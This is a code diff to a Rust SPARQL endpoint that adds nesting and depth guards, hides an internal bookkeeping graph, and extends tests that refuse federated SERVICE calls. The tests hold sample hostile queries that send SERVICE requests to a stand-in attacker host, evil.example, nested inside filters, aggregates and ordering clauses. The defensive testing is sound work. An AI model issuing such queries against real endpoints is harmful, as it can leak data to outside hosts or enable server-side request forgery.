@@ -3,12 +3,17 @@
 //! `default-graph-uri` / `named-graph-uri` parameters replace the query's own dataset (SPARQL 1.1
 //! Protocol §2.1.4).
 
+use oxigraph::model::Literal;
 use oxigraph::model::{GraphName, NamedNode, NamedOrBlankNode};
 use oxigraph::sparql::{PreparedSparqlQuery, SparqlEvaluator};
-use spargebra::algebra::{Expression, GraphPattern};
+use spargebra::algebra::{
+    AggregateExpression, Expression, Function, GraphPattern, OrderExpression,
+};
+use spargebra::term::NamedNodePattern;
 use spargebra::{Query, SparqlParser};
 
-use super::SparqlError;
+use super::{SparqlError, guard};
+use crate::rdf::store::POSITION_PREFIX;
 
 /// A query operation as the protocol receives it.
 #[derive(Clone, Debug, Default)]
@@ -37,13 +42,21 @@ pub struct CheckedQuery {
     query: Query,
     form: QueryForm,
     own_dataset: bool,
+    /// Whether Oxigraph's optimiser plans it (see [`guard::MAX_PLANNED_JOINS`]).
+    optimize: bool,
     default_graphs: Option<Vec<GraphName>>,
     named_graphs: Option<Vec<NamedOrBlankNode>>,
 }
 
 impl CheckedQuery {
     /// Parses and checks a request.
+    ///
+    /// Blocks, and recurses as deep as the query nests: run it on a thread with a stack of
+    /// [`guard::STACK_BYTES`] (as [`super::SparqlService::check`] does). The text is scanned for
+    /// nesting first ([`guard::scan`]), and the parsed algebra's depth is bounded
+    /// ([`guard::check_depth`]), so no query can overflow that stack in any later stage.
     pub fn parse(request: &QueryRequest, base: &str) -> Result<Self, SparqlError> {
+        guard::scan(&request.query).map_err(SparqlError::TooComplex)?;
         let parser = SparqlParser::new()
             .with_base_iri(format!("{base}/"))
             .map_err(|e| SparqlError::Internal(anyhow::anyhow!("bad base IRI: {e}")))?;
@@ -57,7 +70,10 @@ impl CheckedQuery {
                 return Err(SparqlError::Syntax(error.to_string()));
             }
         };
-        let (form, pattern, dataset) = match &query {
+        guard::check_depth(&query).map_err(SparqlError::TooComplex)?;
+        let optimize = guard::joins(&query) <= guard::MAX_PLANNED_JOINS;
+        let mut query = query;
+        let (form, pattern, dataset) = match &mut query {
             Query::Select {
                 pattern, dataset, ..
             } => (QueryForm::Select, pattern, dataset),
@@ -72,9 +88,10 @@ impl CheckedQuery {
             } => (QueryForm::Graph, pattern, dataset),
         };
         let own_dataset = dataset.is_some();
-        if let Some(service) = find_service(pattern) {
+        if let Some(service) = guard::find_service(pattern) {
             return Err(SparqlError::ServiceRefused(service));
         }
+        hide_bookkeeping(pattern);
         let iri = |parameter: &'static str, value: &str| {
             NamedNode::new(value.trim()).map_err(|e| SparqlError::BadGraph {
                 parameter,
@@ -108,6 +125,7 @@ impl CheckedQuery {
             query,
             form,
             own_dataset,
+            optimize,
             default_graphs,
             named_graphs,
         })
@@ -123,6 +141,11 @@ impl CheckedQuery {
     /// the union of all graphs and every named graph is available.
     pub fn prepare(self, evaluator: SparqlEvaluator) -> PreparedSparqlQuery {
         let protocol_dataset = self.default_graphs.is_some() || self.named_graphs.is_some();
+        let evaluator = if self.optimize {
+            evaluator
+        } else {
+            evaluator.without_optimizations()
+        };
         let mut prepared = evaluator.for_query(self.query);
         let dataset = prepared.dataset_mut();
         if protocol_dataset {
@@ -139,41 +162,88 @@ impl CheckedQuery {
     }
 }
 
-/// The first `SERVICE` target in a pattern, anywhere (also inside `EXISTS` filters).
-fn find_service(pattern: &GraphPattern) -> Option<String> {
+/// Keeps the projector's bookkeeping graph (an empty named graph, see
+/// [`crate::rdf::store::POSITION_PREFIX`]) out of every `GRAPH ?g` pattern: each gets the filter
+/// `!STRSTARTS(STR(?g), "urn:odcat:projection?")`. Recursive; the depth was bounded before.
+fn hide_bookkeeping(pattern: &mut GraphPattern) {
     match pattern {
-        GraphPattern::Service { name, .. } => Some(name.to_string()),
-        GraphPattern::Bgp { .. } | GraphPattern::Path { .. } | GraphPattern::Values { .. } => None,
+        GraphPattern::Graph { name, inner } => {
+            hide_bookkeeping(inner);
+            if let NamedNodePattern::Variable(variable) = name {
+                let filter = Expression::Not(Box::new(Expression::FunctionCall(
+                    Function::StrStarts,
+                    vec![
+                        Expression::FunctionCall(
+                            Function::Str,
+                            vec![Expression::Variable(variable.clone())],
+                        ),
+                        Expression::Literal(Literal::new_simple_literal(POSITION_PREFIX)),
+                    ],
+                )));
+                let graph = std::mem::replace(pattern, GraphPattern::default());
+                *pattern = GraphPattern::Filter {
+                    expr: filter,
+                    inner: Box::new(graph),
+                };
+            }
+        }
+        GraphPattern::Bgp { .. } | GraphPattern::Path { .. } | GraphPattern::Values { .. } => {}
         GraphPattern::Join { left, right }
         | GraphPattern::Lateral { left, right }
         | GraphPattern::Union { left, right }
-        | GraphPattern::Minus { left, right } => find_service(left).or_else(|| find_service(right)),
+        | GraphPattern::Minus { left, right } => {
+            hide_bookkeeping(left);
+            hide_bookkeeping(right);
+        }
         GraphPattern::LeftJoin {
             left,
             right,
             expression,
-        } => find_service(left)
-            .or_else(|| find_service(right))
-            .or_else(|| expression.as_ref().and_then(find_service_in_expression)),
+        } => {
+            hide_bookkeeping(left);
+            hide_bookkeeping(right);
+            if let Some(expression) = expression {
+                hide_in_expression(expression);
+            }
+        }
         GraphPattern::Filter { expr, inner } => {
-            find_service_in_expression(expr).or_else(|| find_service(inner))
+            hide_in_expression(expr);
+            hide_bookkeeping(inner);
         }
         GraphPattern::Extend {
             inner, expression, ..
-        } => find_service(inner).or_else(|| find_service_in_expression(expression)),
-        GraphPattern::OrderBy { inner, .. }
-        | GraphPattern::Graph { inner, .. }
+        } => {
+            hide_in_expression(expression);
+            hide_bookkeeping(inner);
+        }
+        GraphPattern::OrderBy { inner, expression } => {
+            for order in expression {
+                let (OrderExpression::Asc(e) | OrderExpression::Desc(e)) = order;
+                hide_in_expression(e);
+            }
+            hide_bookkeeping(inner);
+        }
+        GraphPattern::Group {
+            inner, aggregates, ..
+        } => {
+            for (_, aggregate) in aggregates {
+                if let AggregateExpression::FunctionCall { expr, .. } = aggregate {
+                    hide_in_expression(expr);
+                }
+            }
+            hide_bookkeeping(inner);
+        }
+        GraphPattern::Service { inner, .. }
         | GraphPattern::Project { inner, .. }
         | GraphPattern::Distinct { inner }
         | GraphPattern::Reduced { inner }
-        | GraphPattern::Slice { inner, .. }
-        | GraphPattern::Group { inner, .. } => find_service(inner),
+        | GraphPattern::Slice { inner, .. } => hide_bookkeeping(inner),
     }
 }
 
-fn find_service_in_expression(expression: &Expression) -> Option<String> {
+fn hide_in_expression(expression: &mut Expression) {
     match expression {
-        Expression::Exists(pattern) => find_service(pattern),
+        Expression::Exists(pattern) => hide_bookkeeping(pattern),
         Expression::Or(a, b)
         | Expression::And(a, b)
         | Expression::Equal(a, b)
@@ -186,23 +256,28 @@ fn find_service_in_expression(expression: &Expression) -> Option<String> {
         | Expression::Subtract(a, b)
         | Expression::Multiply(a, b)
         | Expression::Divide(a, b) => {
-            find_service_in_expression(a).or_else(|| find_service_in_expression(b))
+            hide_in_expression(a);
+            hide_in_expression(b);
         }
         Expression::UnaryPlus(a) | Expression::UnaryMinus(a) | Expression::Not(a) => {
-            find_service_in_expression(a)
+            hide_in_expression(a)
         }
-        Expression::If(a, b, c) => find_service_in_expression(a)
-            .or_else(|| find_service_in_expression(b))
-            .or_else(|| find_service_in_expression(c)),
-        Expression::In(a, list) => find_service_in_expression(a)
-            .or_else(|| list.iter().find_map(find_service_in_expression)),
+        Expression::If(a, b, c) => {
+            hide_in_expression(a);
+            hide_in_expression(b);
+            hide_in_expression(c);
+        }
+        Expression::In(a, list) => {
+            hide_in_expression(a);
+            list.iter_mut().for_each(hide_in_expression);
+        }
         Expression::Coalesce(list) | Expression::FunctionCall(_, list) => {
-            list.iter().find_map(find_service_in_expression)
+            list.iter_mut().for_each(hide_in_expression)
         }
         Expression::NamedNode(_)
         | Expression::Literal(_)
         | Expression::Variable(_)
-        | Expression::Bound(_) => None,
+        | Expression::Bound(_) => {}
     }
 }
 
@@ -250,6 +325,11 @@ mod tests {
             "SELECT * { ?s ?p ?o FILTER EXISTS { SERVICE <http://evil.example/sparql> { ?s ?p ?x } } }",
             "SELECT * { { SELECT ?s { SERVICE <http://evil.example/sparql> { ?s ?p ?o } } LIMIT 1 } }",
             "ASK { GRAPH ?g { SERVICE <http://evil.example/sparql> { } } }",
+            "SELECT * { ?s ?p ?o } ORDER BY (EXISTS { SERVICE <http://evil.example/sparql> { ?s ?p ?x } })",
+            "SELECT (SUM(IF(EXISTS { SERVICE <http://evil.example/sparql> { ?s ?p ?x } }, 1, 0)) AS ?n) { ?s ?p ?o }",
+            "SELECT ?s { ?s ?p ?o } GROUP BY ?s HAVING (EXISTS { SERVICE <http://evil.example/sparql> { } })",
+            "SELECT ?s (EXISTS { SERVICE <http://evil.example/sparql> { } } AS ?x) { ?s ?p ?o }",
+            "CONSTRUCT { ?s ?p ?o } { ?s ?p ?o FILTER(COALESCE(1, EXISTS { SERVICE <http://evil.example/sparql> { } })) }",
         ] {
             assert!(
                 matches!(parse(query), Err(SparqlError::ServiceRefused(ref s)) if s.contains("evil.example")),
